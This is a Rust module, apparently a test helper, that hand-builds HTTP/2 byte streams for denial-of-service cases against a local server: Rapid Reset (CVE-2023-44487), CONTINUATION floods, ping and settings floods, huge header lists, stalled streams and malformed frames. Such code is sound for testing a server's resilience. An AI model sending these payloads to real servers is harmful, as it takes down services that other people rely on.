//! HTTP/2 frames by hand: what no client library sends.

/// What a client says first.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![a, b, c, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// Preface and empty settings.
#[must_use]
pub fn greeting() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// A field that is never indexed; name and value below 127 bytes, or a value of any length.
fn field(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0x10];
    length(&mut bytes, name.len());
    bytes.extend(name);
    length(&mut bytes, value.len());
    bytes.extend(value);
    bytes
}

/// HPACK's integer with a prefix of seven bits.
fn length(bytes: &mut Vec<u8>, length: usize) {
    if length < 127 {
        bytes.push(u8::try_from(length).unwrap_or(0));
        return;
    }
    bytes.push(127);
    let mut rest = length - 127;
    while rest >= 128 {
        bytes.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
        rest /= 128;
    }
    bytes.push(u8::try_from(rest).unwrap_or(0));
}

fn request(method: &[u8], path: &[u8], authority: &[u8]) -> Vec<u8> {
    [
        field(b":method", method),
        field(b":scheme", b"https"),
        field(b":authority", authority),
        field(b":path", path),
    ]
    .concat()
}

fn stream(number: u32) -> u32 {
    number * 2 + 1
}

/// `count` requests, each reset at once (CVE-2023-44487).
#[must_use]
pub fn rapid_reset(count: u32) -> Vec<u8> {
    let block = request(b"GET", b"/v1/health", b"127.0.0.1");
    let mut bytes = greeting();
    for number in 0..count {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block));
        bytes.extend(frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes()));
    }
    bytes
}

/// One request whose headers never end: `count` CONTINUATION frames of 16 KiB.
#[must_use]
pub fn continuation_flood(count: usize) -> Vec<u8> {
    let mut bytes = greeting();
    bytes.extend(frame(HEADERS, 0, 1, &request(b"GET", b"/", b"127.0.0.1")));
    let piece = field(b"x-more", &[b'a'; 16_000]);
    for _ in 0..count {
        bytes.extend(frame(CONTINUATION, 0, 1, &piece));
    }
    bytes
}

/// The same with empty frames, which cost nothing to send.
#[must_use]
pub fn empty_continuation_flood(count: usize) -> Vec<u8> {
    let mut bytes = greeting();
    bytes.extend(frame(HEADERS, 0, 1, &request(b"GET", b"/", b"127.0.0.1")));
    for _ in 0..count {
        bytes.extend(frame(CONTINUATION, 0, 1, &[]));
    }
    bytes
}

/// `count` pings.
#[must_use]
pub fn ping_flood(count: usize) -> Vec<u8> {
    let mut bytes = greeting();
    for _ in 0..count {
        bytes.extend(frame(PING, 0, 0, &[7; 8]));
    }
    bytes
}

/// `count` changes of settings, each to be acknowledged.
#[must_use]
pub fn settings_flood(count: usize) -> Vec<u8> {
    let mut bytes = greeting();
    for _ in 0..count {
        bytes.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]));
    }
    bytes
}

/// A request with a header list of about `kib` KiB, made of many fields.
#[must_use]
pub fn huge_header_list(kib: usize) -> Vec<u8> {
    let mut bytes = greeting();
    bytes.extend(frame(
        HEADERS,
        END_STREAM,
        1,
        &request(b"GET", b"/v1/health", b"127.0.0.1"),
    ));
    let piece = field(b"x-some", &[b'a'; 1000]).repeat(8);
    let pieces = kib.div_ceil(8).max(1);
    for number in 0..pieces {
        let flags = if number + 1 == pieces { END_HEADERS } else { 0 };
        bytes.extend(frame(CONTINUATION, flags, 1, &piece));
    }
    bytes
}

/// Requests on `count` streams at once whose bodies never come.
#[must_use]
pub fn bodiless(method_path: (&str, &str), count: u32) -> Vec<u8> {
    let block = request(method_path.0.as_bytes(), method_path.1.as_bytes(), b"127.0.0.1");
    let mut bytes = greeting();
    for number in 0..count {
        bytes.extend(frame(HEADERS, END_HEADERS, stream(number), &block));
    }
    bytes
}

/// A call of a gRPC method, and then `body` as its data, without an end.
#[must_use]
pub fn grpc_call(path: &str, body: &[u8]) -> Vec<u8> {
    let mut block = request(b"POST", path.as_bytes(), b"grpc.fairlead.internal");
    block.extend(field(b"content-type", b"application/grpc"));
    block.extend(field(b"te", b"trailers"));
    let mut bytes = greeting();
    bytes.extend(frame(HEADERS, END_HEADERS, 1, &block));
    for piece in body.chunks(16_000) {
        bytes.extend(frame(DATA, 0, 1, piece));
    }
    bytes
}

/// `count` empty DATA frames on a stream that is open.
#[must_use]
pub fn empty_data_flood(count: usize) -> Vec<u8> {
    let mut bytes = bodiless(("POST", "/v1/links"), 1);
    for _ in 0..count {
        bytes.extend(frame(DATA, 0, 1, &[]));
    }
    bytes
}

/// A window so far up that it overflows, and frames of kinds that nobody knows.
#[must_use]
pub fn nonsense() -> Vec<u8> {
    let mut bytes = greeting();
    bytes.extend(frame(8, 0, 0, &0x7fff_ffff_u32.to_be_bytes()));
    bytes.extend(frame(0xbe, 0xff, 0x7fff_ffff, &[1; 100]));
    bytes.extend(frame(DATA, 0, 99, &[0; 10]));
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_protocol_has_them() {
        assert_eq!(frame(PING, 0, 0, &[1; 8])[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
        let mut bytes = Vec::new();
        length(&mut bytes, 1337 + 127);
        assert_eq!(bytes, [127, 0b1011_1001, 0b0000_1010]);
        assert_eq!(field(b"a", b"bc"), [0x10, 1, b'a', 2, b'b', b'c']);
        assert_eq!(stream(2), 5);
    }
}
